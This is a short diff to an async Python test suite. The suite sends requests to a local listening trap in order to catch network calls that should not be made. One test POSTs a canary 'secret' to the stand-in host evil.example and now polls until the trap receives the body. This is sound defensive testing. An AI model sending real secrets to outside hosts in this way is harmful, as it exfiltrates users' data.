@@ -6,6 +6,7 @@ name of a host leads to a listening trap, so that a request that should not be m
 
 from __future__ import annotations
 
+import asyncio
 import json
 from collections.abc import AsyncIterator, Callable, Iterator, Mapping
 from pathlib import Path
@@ -151,7 +152,9 @@ async def test_the_trap_hears_whoever_is_caught(make: Make, trap: Trap) -> None:
         await http.post("http://evil.example/", data={"secret": "canary"})
     assert world.foreign == ["http://evil.example/"]
     assert b"Host: evil.example" in trap.heard
-    assert b"secret=canary" in trap.heard
+    async with asyncio.timeout(10):  # the body may be a packet of its own
+        while b"secret=canary" not in trap.heard:  # noqa: ASYNC110 - it is heard in a thread
+            await asyncio.sleep(0.01)
 
 
 # What a token answer names
